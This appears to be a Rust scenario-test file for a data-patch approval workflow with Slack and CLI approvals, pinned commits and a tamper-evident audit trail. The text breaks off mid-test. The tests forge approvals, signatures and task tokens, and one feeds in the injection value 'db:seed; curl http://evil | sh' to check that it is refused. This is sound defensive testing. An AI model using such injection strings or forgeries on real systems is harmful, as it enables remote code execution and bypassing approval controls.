//! Scenario tests of data patches (issue 5) on the local replica: real executions of
//! `statemachines/data-patch.asl.json`, approvals through signed Slack interactivity requests
//! (the fake Slack signs them and posts to the real `approval` function URL) and through the
//! `batchless` CLI acting as different IAM users of the replica, real CodeBuild runs of the
//! sample app at pinned commits, the audit trail in DynamoDB + S3 anchors. Run one at a time
//! (`--test-threads=1`): fault injection is per stack.

use std::time::Duration;

use anyhow::{Context, Result};
use batchless_core::shared::audit;
use batchless_scenarios::other::{OtherStack, Setup};
use batchless_scenarios::patch::{Patches as P, PATCH_ID_VAR};
use batchless_scenarios::*;
use serde_json::{json, Value};

const TIMEOUT: Duration = Duration::from_secs(150);
const PATCHES_CHANNEL: &str = "C0PATCHES";
const ALERTS_CHANNEL: &str = "C0ALERTS";
const BOB: &str = "arn:aws:iam::123456789012:user/bob";
const ALICE_SLACK: &str = "U0ALICE01";
const BOB_SLACK: &str = "U0BOB0001";
const CAROL_SLACK: &str = "U0CAROL01";
const DAVE_SLACK: &str = "U0DAVE001";

fn request(commit: &str, extra: Value) -> Value {
    let mut r = json!({
        "ticket": "OPS-7",
        "ref": "main",
        "commit": commit,
        "kind": "rake",
        "task": "data:backfill_totals",
        "args": ["2026-11-01", "it's ok"],
        "reason": "totals were wrong after the import",
        "requestedBy": BOB,
    });
    // `extra` adds or replaces fields; a `null` removes one.
    if let (Some(r), Some(extra)) = (r.as_object_mut(), extra.as_object()) {
        for (k, v) in extra {
            if v.is_null() {
                r.remove(k);
            } else {
                r.insert(k.clone(), v.clone());
            }
        }
    }
    r
}

/// What the data-patch tests do beyond the shared fixture.
trait DataPatch {
    async fn submit(&self, input: &Value) -> Result<(String, String)>;
    async fn submit_request(&self, extra: Value) -> Result<(String, String)>;
    async fn approved_run(&self, extra: Value, faults: &[Value])
        -> Result<(String, String, Ended)>;
    async fn pending(&self, id: &str) -> Result<Value>;
    async fn alice_approves_and_it_succeeds(&self, id: &str, arn: &str) -> Result<Ended>;
    async fn approval_wait(&self, id: &str) -> Result<Option<Value>>;
    async fn forge_approval_wake(&self, id: &str, output: &Value) -> Result<()>;
    async fn edit_record(
        &self,
        id: &str,
        update: &str,
        value: aws_sdk_dynamodb::types::AttributeValue,
    ) -> Result<()>;
    async fn audit_events(&self, id: &str) -> Result<Vec<(String, Value)>>;
    async fn audit_names(&self, id: &str) -> Result<Vec<String>>;
    async fn find_audit_event(&self, id: &str, event: &str) -> Result<Option<Value>>;
    async fn audit_event(&self, id: &str, event: &str) -> Result<Value>;
    async fn sweep(&self) -> Result<Value>;
    async fn cli(&self, as_user: Option<&str>, args: &[&str]) -> Result<(bool, String)>;
}

impl DataPatch for P {
    async fn submit(&self, input: &Value) -> Result<(String, String)> {
        self.start_named("patch", input).await
    }

    /// Submit the standard request for the app's head with `extra` fields.
    async fn submit_request(&self, extra: Value) -> Result<(String, String)> {
        self.submit(&request(&self.stack.app_head()?, extra)).await
    }

    /// The scenario most tests share: submit the request (with `extra`), wait for its
    /// approval request, inject `faults`, alice approves (Slack answers 200), wait for the
    /// end; the faults are cleared whatever happened. The patch id, the execution and its end.
    async fn approved_run(
        &self,
        extra: Value,
        faults: &[Value],
    ) -> Result<(String, String, Ended)> {
        let (id, arn) = self.submit_request(extra).await?;
        let result = async {
            self.pending(&id).await?;
            self.stack.faults(faults).await?;
            let (status, body) = self
                .click(&id, ALICE_SLACK, "patch_approve", json!({}))
                .await?;
            assert_eq!(status, 200, "{body}");
            self.stack.wait_end(&arn, TIMEOUT).await
        }
        .await;
        self.stack.clear_faults().await?;
        let ended = result?;
        Ok((id, arn, ended))
    }

    /// Wait until the approval request is posted (the record has its Slack message) and the
    /// approval wait is registered (its task token in the waits table).
    async fn pending(&self, id: &str) -> Result<Value> {
        eventually("the approval request", TIMEOUT, || async {
            let r = self.find_record(id).await?;
            let waiting = self.approval_wait(id).await?.is_some();
            Ok(r.filter(|r| r.get("approvalMessage").is_some() && waiting))
        })
        .await
    }

    /// The approval wait of a patch: `patch-approval#<patchId>` in the waits table.
    async fn approval_wait(&self, id: &str) -> Result<Option<Value>> {
        self.stack.wait(&format!("patch-approval#{id}")).await
    }

    /// alice approves the pending patch with the Slack button (200) and the execution ends
    /// succeeded: its end.
    async fn alice_approves_and_it_succeeds(&self, id: &str, arn: &str) -> Result<Ended> {
        let (status, body) = self
            .click(id, ALICE_SLACK, "patch_approve", json!({}))
            .await?;
        assert_eq!(status, 200, "{body}");
        let ended = self.stack.wait_end(arn, TIMEOUT).await?;
        Expect::succeeded().check(&self.stack, arn, &ended).await?;
        Ok(ended)
    }

    /// Wake the patch's approval wait with `output` through its stored token, as anyone who
    /// can read the waits table can (`SendTaskSuccess`).
    async fn forge_approval_wake(&self, id: &str, output: &Value) -> Result<()> {
        let wait = self.approval_wait(id).await?.context("the approval wait")?;
        let token = wait["taskToken"].as_str().context("token")?;
        self.stack
            .sfn
            .send_task_success()
            .task_token(token)
            .output(output.to_string())
            .send()
            .await?;
        Ok(())
    }

    /// An operator with write access edits the patch record: `update` (one `:v`) set to `value`.
    async fn edit_record(
        &self,
        id: &str,
        update: &str,
        value: aws_sdk_dynamodb::types::AttributeValue,
    ) -> Result<()> {
        self.stack
            .db
            .update_item()
            .table_name(&self.table)
            .key(
                "patchId",
                aws_sdk_dynamodb::types::AttributeValue::S(id.to_string()),
            )
            .update_expression(update)
            .expression_attribute_values(":v", value)
            .send()
            .await?;
        Ok(())
    }

    async fn audit_events(&self, id: &str) -> Result<Vec<(String, Value)>> {
        let (records, _) = audit::read_chain(&self.trail(audit::PATCH_CHAIN)).await?;
        Ok(records
            .into_iter()
            .filter(|r| r.patch_id == id)
            .map(|r| (r.event, r.data))
            .collect())
    }

    /// The names of the patch's audit events, in order.
    async fn audit_names(&self, id: &str) -> Result<Vec<String>> {
        Ok(self
            .audit_events(id)
            .await?
            .into_iter()
            .map(|(e, _)| e)
            .collect())
    }

    /// The data of the patch's first `event` in the audit trail, if there is one.
    async fn find_audit_event(&self, id: &str, event: &str) -> Result<Option<Value>> {
        Ok(self
            .audit_events(id)
            .await?
            .into_iter()
            .find(|(e, _)| e == event)
            .map(|(_, data)| data))
    }

    /// The data of the patch's first `event`; an error when there is none.
    async fn audit_event(&self, id: &str, event: &str) -> Result<Value> {
        self.find_audit_event(id, event)
            .await?
            .with_context(|| format!("no {event} in the audit trail of {id}"))
    }

    /// One audit sweep over the last hour (the audit-check function's scheduled mode).
    async fn sweep(&self) -> Result<Value> {
        self.stack
            .invoke(
                "AuditCheckFunction",
                &json!({"mode": "sweep", "windowHours": 1}),
            )
            .await
    }

    /// The CLI against this stack, acting as `as_user` (an IAM user of the replica) or the
    /// replica's default identity.
    async fn cli(&self, as_user: Option<&str>, args: &[&str]) -> Result<(bool, String)> {
        let (code, out, err) = self.stack.cli_as(as_user, args).await?;
        Ok((code == 0, format!("{out}{err}")))
    }
}

/// Wait for the end: the execution failed `error`, no build of the patch ran, and the
/// record ended `status` (when given). Returns the cause.
async fn ended_without_build(
    p: &P,
    id: &str,
    arn: &str,
    error: &str,
    status: Option<&str>,
) -> Result<String> {
    let ended = p.stack.wait_end(arn, TIMEOUT).await?;
    assert_eq!(ended.error.as_deref(), Some(error), "{ended:?}");
    assert!(p.builds_of(id, PATCH_ID_VAR).await?.is_empty());
    if let Some(status) = status {
        assert_eq!(p.record(id).await?["status"], status);
    }
    Ok(ended.cause.unwrap_or_default())
}

#[tokio::test]
async fn approved_patch_runs_the_approved_sha_logs_to_s3_and_is_compliant() -> Result<()> {
    let p = P::setup().await?;
    let commit = p.stack.app_head()?;
    let (id, arn) = p.submit(&request(&commit, json!({}))).await?;
    let rec = p.pending(&id).await?;
    assert_eq!(rec["status"], "PENDING_APPROVAL");
    // The request in Slack names everything an approver needs.
    let ts = rec["approvalMessage"]["ts"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let posted = p.stack.slack_messages(PATCHES_CHANNEL).await?;
    let msg = posted
        .iter()
        .find(|m| m["ts"] == ts.as_str())
        .context("approval request posted")?;
    let blocks = msg.to_string();
    for needle in [
        "OPS-7",
        "Bob Example",
        &commit[..12],
        "bin/rake data:backfill_totals 2026-11-01",
        "patch_approve",
    ] {
        assert!(blocks.contains(needle), "{needle} not in {blocks}");
    }
    let ended = p.alice_approves_and_it_succeeds(&id, &arn).await?;
    let out = ended.output.context("output")?;
    assert_eq!(out["verdict"], "COMPLIANT");
    assert_eq!(out["approvers"], json!(["alice"]));
    // The approved SHA ran, with the approved (quoted) command.
    let builds = p.builds_of(&id, PATCH_ID_VAR).await?;
    assert_eq!(builds.len(), 1);
    assert_eq!(builds[0].resolved_source_version(), Some(commit.as_str()));
    assert_eq!(builds[0].source_version(), Some(commit.as_str()));
    // The work log is in S3 with its SHA-256.
    let log_uri = out["logUri"].as_str().context("logUri")?;
    let log = p.stack.object(log_uri).await?;
    let text = String::from_utf8_lossy(&log);
    assert!(
        text.contains("Running task: data:backfill_totals"),
        "{text}"
    );
    assert!(text.contains("Arguments: 2026-11-01 it's ok"), "{text}");
    assert_eq!(out["logSha256"].as_str(), Some(sha256_hex(&log).as_str()));
    let sidecar = p.stack.object(&format!("{log_uri}.sha256")).await?;
    assert!(String::from_utf8_lossy(&sidecar).starts_with(&sha256_hex(&log)));
    // The audit trail tells the whole story, and the chain verifies.
    assert_eq!(
        p.audit_names(&id).await?,
        [
            "REQUESTED",
            "DRY_RUN_STARTED",
            "PREVIEWED",
            "DECISION",
            "APPROVED",
            "BUILD_STARTED",
            "VERDICT",
            "FINISHED"
        ]
    );
    let v = audit::verify_trail(&p.trail(audit::PATCH_CHAIN)).await?;
    assert!(v.ok(), "{:?}", v.problems);
    // The result is in the request's thread.
    let thread = p.stack.slack_messages(PATCHES_CHANNEL).await?;
    assert!(thread.iter().any(|m| m["thread_ts"] == ts.as_str()
        && m["text"]
            .as_str()
            .is_some_and(|t| t.contains("SUCCEEDED") && t.contains(log_uri))));
    Ok(())
}

#[tokio::test]
async fn rejected_patch_runs_no_build() -> Result<()> {
    let p = P::setup().await?;
    let (id, arn) = p.submit_request(json!({})).await?;
    p.pending(&id).await?;
    let (status, body) = p.click(&id, CAROL_SLACK, "patch_reject", json!({})).await?;
    assert_eq!(status, 200, "{body}");
    let cause = ended_without_build(&p, &id, &arn, "PatchRejected", Some("REJECTED")).await?;
    assert!(cause.contains("rejected by carol"));
    Ok(())
}

#[tokio::test]
async fn unanswered_patch_expires_without_a_build() -> Result<()> {
    let p = P::setup().await?;
    // 60 s at the test time scale (60x) is one second.
    let (id, arn) = p
        .submit_request(json!({"approvalTimeoutSeconds": 60}))
        .await?;
    ended_without_build(&p, &id, &arn, "ApprovalExpired", Some("EXPIRED")).await?;
    let events = p.audit_names(&id).await?;
    assert_eq!(events.last().map(String::as_str), Some("FINISHED"));
    Ok(())
}

#[tokio::test]
async fn self_approval_and_non_approvers_are_refused_and_two_required_need_two() -> Result<()> {
    let p = P::setup().await?;
    let (id, arn) = p.submit_request(json!({"requiredApprovals": 2})).await?;
    p.pending(&id).await?;
    let (_, body) = p.click(&id, BOB_SLACK, "patch_approve", json!({})).await?;
    assert_eq!(
        body["outcome"]["refusal"]["refusal"], "self_approval",
        "{body}"
    );
    let (_, body) = p.click(&id, DAVE_SLACK, "patch_approve", json!({})).await?;
    assert_eq!(
        body["outcome"]["refusal"]["refusal"], "not_approver",
        "{body}"
    );
    let rec = p.record(&id).await?;
    assert_eq!(rec["status"], "PENDING_APPROVAL");
    assert_eq!(rec["decisions"], json!({}));
    // One of two.
    let (_, body) = p
        .click(&id, ALICE_SLACK, "patch_approve", json!({}))
        .await?;
    assert_eq!(body["outcome"]["status"], "PENDING_APPROVAL", "{body}");
    assert_eq!(body["outcome"]["approvals"], 1);
    // A second click by the same approver (a double click) counts once.
    let (_, body) = p
        .click(&id, ALICE_SLACK, "patch_approve", json!({}))
        .await?;
    assert_eq!(body["outcome"]["outcome"], "duplicate", "{body}");
    assert_eq!(p.record(&id).await?["status"], "PENDING_APPROVAL");
    assert!(p.builds_of(&id, PATCH_ID_VAR).await?.is_empty());
    // The second distinct approver completes it.
    let (_, body) = p
        .click(&id, CAROL_SLACK, "patch_approve", json!({}))
        .await?;
    assert_eq!(body["outcome"]["status"], "APPROVED", "{body}");
    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
    Expect::succeeded().check(&p.stack, &arn, &ended).await?;
    let refused = p
        .audit_events(&id)
        .await?
        .iter()
        .filter(|(e, _)| e == "DECISION_REFUSED")
        .count();
    assert_eq!(refused, 2);
    Ok(())
}

#[tokio::test]
async fn forged_stale_and_replayed_slack_requests_get_401_and_record_nothing() -> Result<()> {
    let p = P::setup().await?;
    let (id, arn) = p.submit_request(json!({})).await?;
    p.pending(&id).await?;
    let (status, _) = p
        .click(
            &id,
            ALICE_SLACK,
            "patch_approve",
            json!({"signing_secret": "forged"}),
        )
        .await?;
    assert_eq!(status, 401);
    let stale = (chrono::Utc::now().timestamp() - 400).to_string();
    let (status, _) = p
        .click(
            &id,
            ALICE_SLACK,
            "patch_approve",
            json!({"timestamp": stale}),
        )
        .await?;
    assert_eq!(status, 401);
    // A valid request replayed: the first is refused (bob is the requester), the copy is a replay.
    let ts = chrono::Utc::now().timestamp().to_string();
    let (first, _) = p
        .click(
            &id,
            BOB_SLACK,
            "patch_approve",
            json!({"timestamp": ts, "action_ts": "1764300000.000001"}),
        )
        .await?;
    assert_eq!(first, 200);
    let (replay, _) = p
        .click(
            &id,
            BOB_SLACK,
            "patch_approve",
            json!({"timestamp": ts, "action_ts": "1764300000.000001"}),
        )
        .await?;
    assert_eq!(replay, 401);
    let rec = p.record(&id).await?;
    assert_eq!(rec["status"], "PENDING_APPROVAL");
    assert_eq!(rec["decisions"], json!({}));
    // Cancelled by the requester through the CLI: nothing runs.
    let (ok, out) = p.cli(Some("bob"), &["patch", "cancel", &id]).await?;
    assert!(ok, "{out}");
    ended_without_build(&p, &id, &arn, "PatchCancelled", None).await?;
    Ok(())
}

/// `SendTaskSuccess` with the stored token and a made-up approval while nothing is decided
/// (issue 15: a callback wakes a workflow, it never decides): `CheckApproval` reads the record,
/// finds it still pending, and the workflow waits again for the rest of the window under a new
/// token. Nothing is built or ended, the history keeps the wake that decided nothing, and a
/// real approval still runs the patch.
#[tokio::test]
async fn a_forged_send_task_success_on_a_pending_patch_only_makes_it_wait_again() -> Result<()> {
    let p = P::setup().await?;
    let (id, arn) = p.submit_request(json!({})).await?;
    p.pending(&id).await?;
    let first = p.approval_wait(&id).await?.context("the approval wait")?;
    p.forge_approval_wake(
        &id,
        &json!({"decision": "approved", "approvers": ["alice", "carol"]}),
    )
    .await?;
    let count = |states: &[String], name: &str| states.iter().filter(|s| *s == name).count();
    eventually("the workflow to wait again", TIMEOUT, || async {
        let states = p.stack.states_entered(&arn).await?;
        let wait = p.approval_wait(&id).await?;
        Ok((count(&states, "RequestApproval") == 2
            && wait.is_some_and(|w| w["taskToken"] != first["taskToken"]))
        .then_some(()))
    })
    .await?;
    let states = p.stack.states_entered(&arn).await?;
    assert_eq!(count(&states, "CheckApproval"), 1, "{states:?}");
    for never in ["StartPatchBuild", "RecordOutcome"] {
        assert_eq!(count(&states, never), 0, "{never}: {states:?}");
    }
    assert_eq!(p.stack.execution_status(&arn).await?, "RUNNING");
    assert_eq!(p.record(&id).await?["status"], "PENDING_APPROVAL");
    assert!(p.builds_of(&id, PATCH_ID_VAR).await?.is_empty());
    // The trace: the check's reading of the record after a wake nobody decided.
    let checked = p.stack.history(&arn).await?.iter().any(|e| {
        e.state_exited_event_details().is_some_and(|d| {
            d.name() == "CheckApproval"
                && d.output()
                    .is_some_and(|o| o.contains(r#""decision":"pending""#))
        })
    });
    assert!(checked, "CheckApproval's pending reading is in the history");
    // alice's real approval still runs it.
    p.alice_approves_and_it_succeeds(&id, &arn).await?;
    assert_eq!(p.builds_of(&id, PATCH_ID_VAR).await?.len(), 1);
    Ok(())
}

/// A writer of the patches table moves the approval window: first into the past (so the next
/// wake would expire the patch), then ten years out (so a forged wake would keep it waiting).
/// The window is the execution's own (`ApprovalWindow`'s entered time plus the sealed
/// `approvalTimeoutSeconds`): each forged wake only waits again for what is left of the
/// 24 h, the history shows each check, and alice's approval still runs it.
#[tokio::test]
async fn a_writer_of_the_patches_table_cannot_move_the_approval_window() -> Result<()> {
    let p = P::setup().await?;
    let (id, arn) = p.submit_request(json!({})).await?;
    p.pending(&id).await?;
    let window: i64 = 86_400;
    let count = |states: &[String], name: &str| states.iter().filter(|s| *s == name).count();
    for (n, planted) in [(2, "2020-01-01T00:00:00Z"), (3, "2036-12-01T00:00:00Z")] {
        p.edit_record(
            &id,
            "SET approvalExpiresAt = :v, createdAt = :v",
            aws_sdk_dynamodb::types::AttributeValue::S(planted.into()),
        )
        .await?;
        let before = p.approval_wait(&id).await?.context("the approval wait")?;
        p.forge_approval_wake(
            &id,
            &json!({"decision": "approved", "approvers": ["alice"]}),
        )
        .await?;
        eventually("the workflow to wait again", TIMEOUT, || async {
            let states = p.stack.states_entered(&arn).await?;
            let wait = p.approval_wait(&id).await?;
            Ok((count(&states, "RequestApproval") == n
                && wait.is_some_and(|w| w["taskToken"] != before["taskToken"]))
            .then_some(()))
        })
        .await?;
    }
    let checks: Vec<Value> = p
        .stack
        .history(&arn)
        .await?
        .iter()
        .filter_map(|e| e.state_exited_event_details())
        .filter(|d| d.name() == "CheckApproval")
        .filter_map(|d| {
            d.output()
                .and_then(|o| serde_json::from_str::<Value>(o).ok())
        })
        .map(|o| o["approvalCheck"].clone())
        .collect();
    assert_eq!(checks.len(), 2, "{checks:?}");
    for c in &checks {
        assert_eq!(c["decision"], "pending", "{c}");
        // What is left of the 24 h window (the test's time scale runs it 60x faster, so well
        // under a day has passed), neither 1 s nor ten years.
        let left = c["waitSeconds"].as_i64().context("waitSeconds")?;
        assert!(left > window - 3600 && left <= window, "{c}");
        assert_eq!(c["openedAt"], checks[0]["openedAt"], "{c}");
    }
    assert_eq!(p.stack.execution_status(&arn).await?, "RUNNING");
    assert_eq!(p.record(&id).await?["status"], "PENDING_APPROVAL");
    p.alice_approves_and_it_succeeds(&id, &arn).await?;
    Ok(())
}

/// An operator with write access to the patches table records alice's approval themselves
/// (the right request hash, alice's Slack identity, a made-up seal), marks the patch APPROVED
/// and wakes the workflow with the stored token: the decision's seal does not verify, so it
/// counts for nothing, nothing is built, and the audit trail names the forgery.
#[tokio::test]
async fn a_decision_written_into_the_table_counts_for_nothing_and_is_audited_as_forged(
) -> Result<()> {
    let p = P::setup().await?;
    let (id, arn) = p.submit_request(json!({})).await?;
    let rec = p.pending(&id).await?;
    let hash = rec["request"]["requestHash"].as_str().context("hash")?;
    let seal = "MEUCIQDforgedforgedforgedforgedforgedforgedforgedAiBforged";
    p.stack
        .plant_approval(&p.table, "patchId", &id, hash, Some(seal), true)
        .await?;
    p.forge_approval_wake(
        &id,
        &json!({"decision": "approved", "approvers": ["alice"]}),
    )
    .await?;
    let cause = ended_without_build(&p, &id, &arn, "NotApproved", None).await?;
    assert!(
        cause.contains("0 of 1 valid approvals") && cause.contains("seal does not verify"),
        "{cause}"
    );
    let forged = p.audit_event(&id, "DECISION_FORGED").await?;
    assert_eq!(forged["by"], "alice", "{forged}");
    assert_eq!(forged["sealed"], true, "{forged}");
    assert!(p.find_audit_event(&id, "DECISION").await?.is_none());
    Ok(())
}

/// A decision planted under an approver's name while the patch is pending (so that their own
/// click would find "already decided"): it does not count, it is audited as forged when the
/// approver clicks, and their real decision replaces it. The patch then runs on theirs.
#[tokio::test]
async fn a_decision_planted_under_an_approvers_name_is_replaced_by_theirs() -> Result<()> {
    let p = P::setup().await?;
    let (id, arn) = p.submit_request(json!({})).await?;
    let rec = p.pending(&id).await?;
    let hash = rec["request"]["requestHash"].as_str().context("hash")?;
    p.stack
        .plant_approval(&p.table, "patchId", &id, hash, None, false)
        .await?;
    let (status, body) = p
        .click(&id, ALICE_SLACK, "patch_approve", json!({}))
        .await?;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["outcome"]["outcome"], "recorded", "{body}");
    assert_eq!(body["outcome"]["status"], "APPROVED", "{body}");
    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
    Expect::succeeded().check(&p.stack, &arn, &ended).await?;
    let names = p.audit_names(&id).await?;
    let forged = names.iter().position(|n| n == "DECISION_FORGED");
    let decided = names.iter().position(|n| n == "DECISION");
    assert!(
        forged.is_some() && decided.is_some() && forged < decided,
        "{names:?}"
    );
    let stored = &p.record(&id).await?["decisions"]["alice"];
    assert!(stored["seal"].is_string(), "{stored}");
    Ok(())
}

/// Decisions are made by the decision endpoint for the caller AWS authenticated: an unsigned
/// or badly signed request is refused before the function runs; a doctored people file on
/// the operator's machine changes nothing (the deployed map decides); the requester cannot
/// approve their own patch from the CLI either. Every refusal is audited, nothing recorded.
#[tokio::test]
async fn cli_decisions_are_the_servers_for_the_signed_caller_whatever_the_local_people_file(
) -> Result<()> {
    let p = P::setup().await?;
    let (id, arn) = p.submit_request(json!({})).await?;
    p.pending(&id).await?;
    let url = p.stack.info["function_urls"]["DecisionFunction"]
        .as_str()
        .context("the decision URL")?
        .to_string();
    let body = json!({"action": "approve", "patchId": id}).to_string();
    let unsigned = p.stack.http.post(&url).body(body.clone()).send().await?;
    assert_eq!(unsigned.status().as_u16(), 403);
    let forged = p
        .stack
        .http
        .post(&url)
        .header(
            "authorization",
            format!(
                "AWS4-HMAC-SHA256 Credential=AKIAALICE/{}/us-east-1/lambda/aws4_request, SignedHeaders=host;x-amz-date, Signature={}",
                chrono::Utc::now().format("%Y%m%d"),
                "0".repeat(64)
            ),
        )
        .header("x-amz-date", chrono::Utc::now().format("%Y%m%dT%H%M%SZ").to_string())
        .body(body)
        .send()
        .await?;
    assert_eq!(forged.status().as_u16(), 403);
    // dave, with a people file that makes him an approver.
    let doctored = repo_root()
        .join(".local")
        .join(format!("people-doctored-{}.yaml", std::process::id()));
    let map = std::fs::read_to_string(repo_root().join("infra/people.yaml"))?;
    let dave = map.find("id: dave").context("dave in the map")?;
    let roles = dave + map[dave..].find("roles:").context("dave's roles")?;
    let end = roles + map[roles..].find('\n').context("line end")?;
    let doctored_map = format!("{}roles: [approver]{}", &map[..roles], &map[end..]);
    std::fs::write(&doctored, doctored_map)?;
    std::env::set_var("PEOPLE_FILE", &doctored);
    let dave_says = p.cli(Some("dave"), &["patch", "approve", &id]).await;
    let bob_says = p.cli(Some("bob"), &["patch", "approve", &id]).await;
    std::env::remove_var("PEOPLE_FILE");
    let _ = std::fs::remove_file(&doctored);
    let (ok, out) = dave_says?;
    assert!(
        !ok && out.contains("does not have the approver role"),
        "{out}"
    );
    let (ok, out) = bob_says?;
    assert!(
        !ok && out.contains("requested this and cannot decide it"),
        "{out}"
    );
    let rec = p.record(&id).await?;
    assert_eq!(rec["status"], "PENDING_APPROVAL");
    assert_eq!(rec["decisions"], json!({}));
    let refused: Vec<Value> = p
        .audit_events(&id)
        .await?
        .into_iter()
        .filter(|(e, _)| e == "DECISION_REFUSED")
        .map(|(_, d)| d)
        .collect();
    assert_eq!(refused.len(), 2, "{refused:?}");
    assert_eq!(
        refused[0]["identity"],
        "arn:aws:iam::123456789012:user/dave"
    );
    assert_eq!(refused[1]["refusal"]["refusal"], "self_approval");
    let (ok, out) = p.cli(Some("bob"), &["patch", "cancel", &id]).await?;
    assert!(ok, "{out}");
    ended_without_build(&p, &id, &arn, "PatchCancelled", None).await?;
    Ok(())
}

#[tokio::test]
async fn the_approved_sha_runs_after_the_branch_moved_and_the_cli_decides() -> Result<()> {
    let p = P::setup().await?;
    let branch = unique_name("fix");
    let script = "script/fix_totals.rb";
    let approved_sha =
        p.stack
            .commit_to_app(&branch, &[(script, "puts 'version one'\n")], "fix one")?;
    let (ok, out) = p
        .cli(
            Some("bob"),
            &[
                "patch",
                "submit",
                "--ticket",
                "OPS-8",
                "--ref",
                &branch,
                "--kind",
                "runner",
                "--script",
                "script/fix_totals.rb",
                "--arg",
                "--dry-run=false",
                "--reason",
                "one-off fix",
            ],
        )
        .await?;
    assert!(ok, "{out}");
    let id = out
        .split_whitespace()
        .nth(1)
        .context("patch id")?
        .to_string();
    assert!(out.contains(&approved_sha), "{out}");
    p.pending(&id).await?;
    // The branch moves on after the request.
    p.stack.commit_to_app(
        &branch,
        &[(script, "puts 'version two: DROP EVERYTHING'\n")],
        "fix two",
    )?;
    // dave may not approve; alice may.
    let (ok, out) = p.cli(Some("dave"), &["patch", "approve", &id]).await?;
    assert!(
        !ok && out.contains("does not have the approver role"),
        "{out}"
    );
    let (ok, out) = p.cli(Some("alice"), &["patch", "approve", &id]).await?;
    assert!(ok && out.contains("approved"), "{out}");
    let arn = p.record(&id).await?["request"]["executionArn"]
        .as_str()
        .context("arn")?
        .to_string();
    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
    Expect::succeeded().check(&p.stack, &arn, &ended).await?;
    let builds = p.builds_of(&id, PATCH_ID_VAR).await?;
    assert_eq!(
        builds[0].resolved_source_version(),
        Some(approved_sha.as_str())
    );
    let log = p
        .stack
        .object(
            ended
                .output
                .as_ref()
                .and_then(|o| o["logUri"].as_str())
                .context("log")?,
        )
        .await?;
    let text = String::from_utf8_lossy(&log);
    assert!(
        text.contains("version one") && !text.contains("version two"),
        "{text}"
    );
    // The CloudTrail record of the submit names bob, as the patch does: no mismatch.
    let sweep = p.sweep().await?;
    assert!(
        !sweep["requesterMismatches"].to_string().contains(&id),
        "{sweep}"
    );
    Ok(())
}

#[tokio::test]
async fn the_sweep_names_a_build_started_outside_the_workflow_and_a_false_requester() -> Result<()>
{
    let p = P::setup().await?;
    let build_id = p.start_outside_build(&p.stack.app_head()?, &[]).await?;
    // bob submits (the decision endpoint seals his request for this name), but the replica's
    // default identity (local-operator) starts it: CloudTrail names someone else.
    let id = unique_name("patch");
    let input = request(&p.stack.app_head()?, json!({"ticket": "OPS-9"}));
    let sealed = p.stack.sealed("bob", "data-patch", &id, &input).await?;
    let arn = p.stack.start(&p.sm, &id, &sealed).await?;
    p.pending(&id).await?;
    // Slack is down for the first alert: that sweep fails, and nothing it found is lost.
    p.stack
        .slack_fail("chat.postMessage", "internal_error", 1)
        .await?;
    let failed = p.sweep().await;
    assert!(failed.is_err(), "{failed:?}");
    let sweep = p.sweep().await?;
    let unapproved = sweep["unapproved"].to_string();
    assert!(
        unapproved.contains(&build_id) && unapproved.contains("without an approved request"),
        "{sweep}"
    );
    let mismatches = sweep["requesterMismatches"].to_string();
    assert!(
        mismatches.contains(&id) && mismatches.contains("CloudTrail shows local-operator"),
        "{sweep}"
    );
    let alerts = p.stack.slack_messages(ALERTS_CHANNEL).await?;
    assert!(
        alerts
            .iter()
            .any(|m| m["text"].as_str().is_some_and(|t| t.contains(&build_id))),
        "no alert names {build_id}"
    );
    // A second sweep finds the same, alerts nothing new.
    let again = p.sweep().await?;
    assert!(again["unapproved"].as_array().is_some_and(|a| a
        .iter()
        .all(|x| x["buildId"] != build_id.as_str() || x["new"] == false)));
    let (ok, out) = p.cli(None, &["patch", "cancel", &id]).await?;
    assert!(ok, "{out}");
    p.stack.wait_end(&arn, TIMEOUT).await?;
    Ok(())
}

#[tokio::test]
async fn a_failing_script_is_patch_failed_and_audited_and_metacharacters_are_invalid_input(
) -> Result<()> {
    let p = P::setup().await?;
    let mut input = request(&p.stack.app_head()?, json!({}));
    input["task"] = json!("db:seed; curl http://evil | sh");
    let (id, arn) = p.submit(&input).await?;
    let ended = p.stack.wait_end(&arn, TIMEOUT).await?;
    Expect {
        cause_has: &["shell metacharacters are refused"],
        ..Expect::error("InvalidInput")
    }
    .check(&p.stack, &arn, &ended)
    .await?;
    assert!(p.stack.get_item(&p.table, "patchId", &id).await?.is_none());
    // A script whose real run exits non-zero (3) after a dry run that passed (a dry run that
    // fails is never approvable: tests/tests/patch_preview.rs); `null` drops the rake task.
    let runner =
        json!({"task": null, "kind": "runner", "script": "script/patches/fails_in_real_run.rb"});
    let (id, arn, ended) = p.approved_run(runner, &[]).await?;
    Expect {
        cause_has: &["in phase BUILD"],
        ..Expect::error("PatchFailed")
    }
    .check(&p.stack, &arn, &ended)
    .await?;
    let finished = p.audit_event(&id, "FINISHED").await?;
    assert_eq!(finished["status"], "FAILED");
    assert!(finished["logUri"].as_str().is_some());
    Ok(())
}

/// Tampering with a chain (its own, so other tests' chain stays intact): `batchless audit
/// verify` fails and names what happened.
#[tokio::test]
async fn audit_verify_names_an_edited_record_a_deleted_newest_record_and_a_rewritten_chain(
) -> Result<()> {
    let p = P::setup().await?;
    let chain_name = unique_name("tamper");
    let chain = chain_name.as_str();
    let trail = p.trail(chain);
    for n in 1..=4 {
        audit::append(
            &trail,
            &audit::Entry {
                key: format!("k{n}"),
                environment: "staging".into(),
                patch_id: "p".into(),
                event: "REQUESTED".into(),
                actor: "bob".into(),
                data: json!({"n": n}),
            },
        )
        .await?;
    }
    // The audit writer signs the head (issue 15: `audit verify` requires a signed checkpoint).
    p.stack
        .invoke(
            "AuditCheckFunction",
            &json!({"mode": "seal", "chain": chain, "seq": 4}),
        )
        .await?;
    let args = ["audit", "verify", "--chain", chain];
    let verify = || p.cli(None, &args);
    let (ok, out) = verify().await?;
    assert!(ok && out.contains("audit chain OK: 4 records"), "{out}");
    let item = |seq: u64| {
        let key: std::collections::HashMap<String, aws_sdk_dynamodb::types::AttributeValue> = [
            (
                "chain".to_string(),
                aws_sdk_dynamodb::types::AttributeValue::S(chain.to_string()),
            ),
            (
                "seq".to_string(),
                aws_sdk_dynamodb::types::AttributeValue::N(seq.to_string()),
            ),
        ]
        .into();
        key
    };
    let set_actor_of_2 = |actor: &'static str| {
        p.stack
            .db
            .update_item()
            .table_name(&p.audit_table)
